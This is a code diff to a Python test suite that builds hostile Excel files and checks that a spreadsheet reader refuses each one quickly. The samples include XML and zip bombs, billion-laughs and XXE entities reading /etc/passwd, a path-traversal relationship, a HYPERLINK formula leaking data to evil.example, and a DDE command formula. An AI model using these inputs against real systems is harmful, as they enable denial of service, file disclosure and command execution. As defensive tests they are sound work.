@@ -304,45 +304,51 @@ PLAIN_SHEET = parts_of(as_excel([["begin"]], "Sheet"))
 STRINGS = "xl/sharedStrings.xml"
 CELL = '<c t="inlineStr"><is><t>x</t></is></c>'
 LAUGHING = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
-HOSTILE_SHEETS: dict[str, bytes] = {
-    "a bomb of spaces": sheet(" " * 30_000_000),
-    "a bomb of rows": sheet("<row/>" * 3_000_000),
-    "a bomb of columns": sheet("<row>" + CELL * 200_000 + "</row>"),
-    "a bomb of strings": sheet(parts={STRINGS: "<sst>" + "<si><t>x</t></si>" * 2_000_000 + "</sst>"}),
-    "a bomb of styles": sheet(parts={"xl/styles.xml": "<styleSheet>" + "<xf/>" * 4_000_000 + "</styleSheet>"}),
-    "deep elements": sheet("<row>" * 5_000),
-    "a cell at the end of the sheet": sheet(
-        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
-    ),
-    "a row without end": sheet('<row r="99999999999999999999">' + CELL + "</row>"),
-    "a cell without a place": sheet('<row r="x"><c r="??"><v>1</v></c></row>'),
-    "a string that is not there": sheet('<row r="1"><c r="A1" t="s"><v>9999</v></c></row>'),
-    "a date without end": sheet('<row r="1"><c r="A1" t="d"><v>9999999-99-99</v></c></row>'),
-    "a number without end": sheet('<row r="1"><c r="A1"><v>' + "9" * 100_000 + "</v></c></row>"),
-    "laughs": sheet(parts={STRINGS: LAUGHING + "<sst><si><t>&b;</t></si></sst>"}),
-    "a foreign entity": sheet(parts={STRINGS: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst/>'}),
-    "other XML": sheet(parts={"xl/workbook.xml": "<a/>"}),
-    "no XML": sheet(parts={"xl/workbook.xml": "PK"}),
-    "a relation to nowhere": sheet(parts={"xl/_rels/workbook.xml.rels": "<Relationships/>"}),
-    "a relation to the outside": sheet(
-        parts={
-            "xl/_rels/workbook.xml.rels": PLAIN_SHEET["xl/_rels/workbook.xml.rels"]
-            .decode()
-            .replace("worksheets/sheet1.xml", "../../../etc/passwd")
-        }
-    ),
-    "hundreds of parts": sheet(parts={f"xl/{number}": "" for number in range(600)}),
-    "macros": sheet(parts={"xl/vbaProject.bin": "x"}),
-    "bzip2": sheet(" " * 1_000_000, method=zipfile.ZIP_BZIP2),
-    "a formula": sheet('<row r="1"><c r="A1"><f>HYPERLINK("http://evil.example/"&amp;A2)</f></c></row>'),
-    "a command": sheet('<row r="1"><c r="A1" t="str"><f>cmd|\' /C calc\'!A0</f><v>begin</v></c></row>'),
-    "an old Excel file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3_000),
-    "no archive": b"x" * 3_000,
-    "half an archive": sheet()[:900],
-    "nothing": b"",
-    "a Word file": zipped(zipfile.ZIP_DEFLATED, b"", 1),
-    "random bytes": b"PK\x03\x04" + os.urandom(3_000),
-}
+
+
+def hostile_sheets() -> dict[str, bytes]:
+    """Excel files that are meant to stop or fill the machine. Making them takes some seconds."""
+    return {
+        "a bomb of spaces": sheet(" " * 11_000_000),
+        "a bomb of rows": sheet("<row/>" * 1_800_000),
+        "a bomb of columns": sheet("<row>" + CELL * 200_000 + "</row>"),
+        "a bomb of strings": sheet(parts={STRINGS: "<sst>" + "<si><t>x</t></si>" * 600_000 + "</sst>"}),
+        "a bomb of styles": sheet(parts={"xl/styles.xml": "<styleSheet>" + "<xf/>" * 2_200_000 + "</styleSheet>"}),
+        "deep elements": sheet("<row>" * 5_000),
+        "a cell at the end of the sheet": sheet(
+            '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
+        ),
+        "a row without end": sheet('<row r="99999999999999999999">' + CELL + "</row>"),
+        "a cell without a place": sheet('<row r="x"><c r="??"><v>1</v></c></row>'),
+        "a string that is not there": sheet('<row r="1"><c r="A1" t="s"><v>9999</v></c></row>'),
+        "a date without end": sheet('<row r="1"><c r="A1" t="d"><v>9999999-99-99</v></c></row>'),
+        "a number without end": sheet('<row r="1"><c r="A1"><v>' + "9" * 100_000 + "</v></c></row>"),
+        "laughs": sheet(parts={STRINGS: LAUGHING + "<sst><si><t>&b;</t></si></sst>"}),
+        "a foreign entity": sheet(parts={STRINGS: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst/>'}),
+        "other XML": sheet(parts={"xl/workbook.xml": "<a/>"}),
+        "no XML": sheet(parts={"xl/workbook.xml": "PK"}),
+        "a relation to nowhere": sheet(parts={"xl/_rels/workbook.xml.rels": "<Relationships/>"}),
+        "a relation to the outside": sheet(
+            parts={
+                "xl/_rels/workbook.xml.rels": PLAIN_SHEET["xl/_rels/workbook.xml.rels"]
+                .decode()
+                .replace("worksheets/sheet1.xml", "../../../etc/passwd")
+            }
+        ),
+        "hundreds of parts": sheet(parts={f"xl/{number}": "" for number in range(600)}),
+        "macros": sheet(parts={"xl/vbaProject.bin": "x"}),
+        "bzip2": sheet(" " * 1_000_000, method=zipfile.ZIP_BZIP2),
+        "a formula": sheet('<row r="1"><c r="A1"><f>HYPERLINK("http://evil.example/"&amp;A2)</f></c></row>'),
+        "a command": sheet('<row r="1"><c r="A1" t="str"><f>cmd|\' /C calc\'!A0</f><v>begin</v></c></row>'),
+        "an old Excel file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3_000),
+        "no archive": b"x" * 3_000,
+        "half an archive": sheet()[:900],
+        "nothing": b"",
+        "a Word file": zipped(zipfile.ZIP_DEFLATED, b"", 1),
+        "random bytes": b"PK\x03\x04" + os.urandom(3_000),
+    }
+
+
 READ_SHEETS = """
 import json, resource, sys, time, warnings
 from pathlib import Path
@@ -369,7 +375,8 @@ for file in sorted(Path(sys.argv[1]).iterdir()):
 
 
 def test_each_hostile_sheet_is_refused_with_a_short_sentence(tmp_path: Path) -> None:
-    for name, content in HOSTILE_SHEETS.items():
+    sheets = hostile_sheets()
+    for name, content in sheets.items():
         (tmp_path / f"{name}.xlsx").write_bytes(content)
     for name, sent in HOSTILE.items():
         (tmp_path / f"{name}.csv").write_bytes(sent.encode() if isinstance(sent, str) else sent)
@@ -377,7 +384,7 @@ def test_each_hostile_sheet_is_refused_with_a_short_sentence(tmp_path: Path) -> 
     ran = subprocess.run(program, capture_output=True, text=True, timeout=300)
     assert ran.returncode == 0, ran.stderr[-3000:]
     told = [json.loads(line) for line in ran.stdout.splitlines()]
-    assert len(told) == 2 * (len(HOSTILE_SHEETS) + len(HOSTILE))
+    assert len(told) == 2 * (len(sheets) + len(HOSTILE))
     for name, message, seconds in told:
         assert seconds < 10, name
         assert not message.startswith("read: ") or name == "separators of lines.csv", (name, message)
